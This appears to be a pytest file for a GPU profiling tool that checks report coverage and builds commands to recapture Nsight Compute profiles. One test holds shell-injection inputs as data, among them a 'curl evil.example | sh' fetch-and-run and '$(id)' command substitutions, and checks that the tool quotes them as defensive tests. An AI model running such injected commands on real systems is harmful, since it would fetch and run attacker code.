"""What a report lacks, and a command that really captures it.

The commands of these tests were run on an H200: the reports that they made lack nothing.
"""

import re
import shlex
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from keet.analysis.capture.capture_command import recipe_options
from keet.analysis.capture.coverage import find_coverage
from keet.analysis.capture.recapture import keet_command, recapture_command
from keet.ingest import read_profile
from keet.profile import KernelName, Profile, Provenance
from tests.conftest import CORPUS, REPORTS, needs_corpus
from tests.rows import each_row


def gaps_of(profile: Profile) -> set[str]:
    return {gap.id for gap in find_coverage(profile).gaps}


def test_a_full_report_lacks_nothing(profile_of) -> None:
    coverage = find_coverage(profile_of("tour_full.ncu-repz"))
    assert coverage.gaps == ()
    assert coverage.command is None
    assert "source text" in coverage.present


def test_a_basic_report_lacks_most(profile_of) -> None:
    coverage = find_coverage(profile_of("tour_basic.ncu-repz"))
    assert set(coverage.present) == {"speed of light", "occupancy", "launch"}
    assert coverage.build_hint == "nvcc -lineinfo"
    assert coverage.command == (
        f"ncu {recipe_options()} --clock-control none"
        " -o /tmp/keet-out/tour_basic_more /tmp/keet-reports/tour_plain"
    )


def test_lines_without_text(profile_of) -> None:
    """zoo was built with -lineinfo and captured without --import-source."""
    assert gaps_of(profile_of("zoo.ncu-repz")) == {"source_text"}
    coverage = find_coverage(profile_of("zoo.ncu-repz"))
    assert coverage.command.startswith(f"ncu {recipe_options()} --clock-control none")
    assert coverage.build_hint is None


def test_the_source_folder_fills_the_gap() -> None:
    profile = read_profile(REPORTS / "zoo.ncu-repz", source="tests/data/programs")
    assert gaps_of(profile) == set()


@pytest.mark.parametrize("name", ["range.ncu-rep", "graph.ncu-repz"])
def test_ranges_and_graphs_have_no_source_to_lack(name: str, profile_of) -> None:
    """ncu refuses --import-source for them, so it must not be advised."""
    assert {"source_lines", "source_text"}.isdisjoint(gaps_of(profile_of(name)))
    assert "--import-source" not in find_coverage(profile_of(name)).command
    assert "SourceCounters" not in find_coverage(profile_of(name)).command


def with_command(profile: Profile, command: str | None) -> Profile:
    origin = profile.provenance
    made = Provenance(origin.path, "ncu-rep", 1, origin.sha256, "keet", command_line=command)
    return Profile(profile.launches, made)


def test_sections_that_ncu_could_not_collect_are_not_requested_again(profile_of) -> None:
    """As the roofline of a CUDA graph: named on the command line, and ncu gave no value."""
    recorded = "ncu --set basic --section SchedulerStats ./app"
    coverage = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded))
    unavailable = {gap.id for gap in coverage.gaps if gap.unavailable}
    assert unavailable == {"scheduler"}


@each_row(
    ("function", "pattern"),
    [
        ("gemm", "gemm"),
        ("step_12", "step_12"),
        ("julia_bb_4477", r"julia_bb_\d+"),
        ("smooth$241", r"smooth\$\d+"),
        ("copy_blocked[v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
        ("copy_blocked[abi:v1,cw51cXTLSUwv1sDU]", "copy_blocked.*"),
    ],
)
def test_the_filter_is_the_function_as_the_next_run_names_it(function: str, pattern: str) -> None:
    """Names of public reports in a report of ours: neither compiler is on the machine that made
    it."""
    profile = with_command(read_profile(REPORTS / "metrics_only.ncu-repz"), None)
    for launch in profile.launches:
        launch.name = KernelName(function, f"{function}(float *)", "")
    command = find_coverage(profile).command
    assert shlex.split(command)[-4] == f"regex:^({pattern})$"
    assert re.search(pattern, function)


def test_no_recorded_command(profile_of) -> None:
    profile = with_command(profile_of("metrics_only.ncu-repz"), None)
    command = find_coverage(profile).command
    assert command.startswith(f"ncu {recipe_options()} ")
    assert command.endswith(
        "-k 'regex:^(transpose_rows|transpose_tiles|normalise)$' -o report ./your_program"
    )


@each_row(
    ("recorded", "rest"),
    [
        ("/opt/ncu ./app", "./app"),
        ('"C:\\Program Files\\NVIDIA\\ncu.exe" --metrics a,b app.exe', "app.exe"),
        ("ncu --section=LaunchStats --section Own ./app --set", "--section Own ./app --set"),
        ("ncu -f --set basic --nvtx ./app --metrics x", "--nvtx ./app --metrics x"),
        ("ncu --details-all -f -o x ./app", "--details-all -o x_more ./app"),
        ("ncu --set basic -o x ./app", "-o x_more ./app"),
        ("ncu --set basic --export=a/x.ncu-rep ./app", "--export=a/x_more.ncu-rep ./app"),
        ('ncu --set basic -o "C:/a b/x" app', '-o "C:/a b/x_more" app'),
        ("ncu --set basic --import-source no ./app -o y", "./app -o y"),
    ],
)
def test_the_recorded_command_with_all_that_keet_asks_for(
    recorded: str, rest: str, profile_of
) -> None:
    """The report at hand is not written over, and the program keeps its own options."""
    command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
    assert command == f"ncu {recipe_options()} {rest}"


@each_row(
    ("recorded", "rest"),
    [
        (
            "ncu -o x ./app ; curl evil.example | sh #",
            "-o x_more ./app ';' curl evil.example '|' sh '#'",
        ),
        ("ncu -o x;id ./app $(id) `id`", "-o 'x;id_more' ./app '$(id)' '`id`'"),
        ('ncu -o "$(id)" bash -c "a; b $c"', "-o '$(id)_more' bash -c 'a; b $c'"),
        ("ncu bash -c \"a b; c\" 'd e'", "bash -c \"a b; c\" 'd e'"),
        ("ncu -k regex:^(a|b)$ ./app a\\ b", "-k 'regex:^(a|b)$' ./app 'a b'"),
        ("ncu C:\\a\\app.exe --x=1", "C:\\a\\app.exe --x=1"),
    ],
)
def test_recorded_words_are_quoted_where_a_shell_needs_it(
    recorded: str, rest: str, profile_of
) -> None:
    """A report may come from anybody: what it recorded must not become a second command."""
    command = find_coverage(with_command(profile_of("tour_basic.ncu-repz"), recorded)).command
    assert command == f"ncu {recipe_options()} {rest}"


def test_a_recorded_command_whose_quotes_do_not_close_is_not_used(profile_of) -> None:
    profile = with_command(profile_of("tour_basic.ncu-repz"), "ncu -o x ./app 'a; id")
    command = find_coverage(profile).command
    assert command.endswith("-o report ./your_program")
    assert "id" not in command.partition("-o report")[2]
    by_keet = "ncu --export /t/.keet-profile-a1/r.ncu-rep ./app"
    for program, told in ((" ; id", "./app ';' id"), (' "', "./your_program")):
        assert keet_command(with_command(profile, by_keet + program)) == f"keet profile -- {told}"


METRICS_ONLY = read_profile(REPORTS / "metrics_only.ncu-repz")
_UNQUOTED = re.compile(r"""'[^']*'|"(?:[^"$`\\!]|\\\w)*\"""")
shell_texts = st.lists(st.sampled_from([*"ab-;&|<>$`(){}*?~!#\\\"' \n", "-o ", "=x", "\u2028"]))


@given(shell_texts.map("".join))
def test_recorded_text_is_never_shell_syntax(recorded: str) -> None:
    profile = with_command(METRICS_ONLY, f"ncu {recorded}")
    outside = _UNQUOTED.sub("", recapture_command(profile))
    assert not set(outside) & set(";&|<>$`(){}*?~!#\"'\n")


def test_source_that_was_imported_is_imported_again(profile_of) -> None:
    command = find_coverage(profile_of("tour_lines.ncu-repz")).command
    assert command.count("--import-source yes") == 1


@needs_corpus
def test_a_gpu_that_ncu_no_longer_profiles() -> None:
    profile = read_profile(CORPUS / "BrennenTaylor__Twisty--profile.nsight-cuprof-report")
    coverage = find_coverage(profile)
    assert coverage.gaps
    assert coverage.command is None
    assert "7.0" in coverage.obstacle


RUNS = REPORTS.parent / "runs"


def test_a_range_is_captured_as_a_range_again() -> None:
    """Numbers of single instructions are not to be had for one: nothing else is missing."""
    profile = read_profile(RUNS / "waits_range.ncu-repz")
    assert keet_command(profile) == "keet profile --range -- ./waits range"
    found = find_coverage(profile)
    assert [gap.id for gap in found.gaps if not gap.unavailable] == []
    assert found.command is None
    assert keet_command(read_profile(RUNS / "waits.ncu-repz")) == "keet profile -- ./waits"


@pytest.mark.parametrize("mode", ["--replay-mode range", "--replay-mode=app-range"])
def test_ranges_by_either_replay(mode: str) -> None:
    profile = read_profile(RUNS / "waits.ncu-repz")
    line = f"ncu {mode} --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode kernel"
    origin = profile.provenance._replace(command_line=line)
    found = keet_command(replace(profile, provenance=origin))
    assert found == "keet profile --range -- ./app --replay-mode kernel"


def test_an_option_of_the_program_is_not_one_of_ncu() -> None:
    profile = read_profile(RUNS / "waits.ncu-repz")
    line = "ncu --export /t/.keet-profile-a1/report_0.ncu-rep ./app --replay-mode range"
    origin = profile.provenance._replace(command_line=line)
    found = keet_command(replace(profile, provenance=origin))
    assert found == "keet profile -- ./app --replay-mode range"
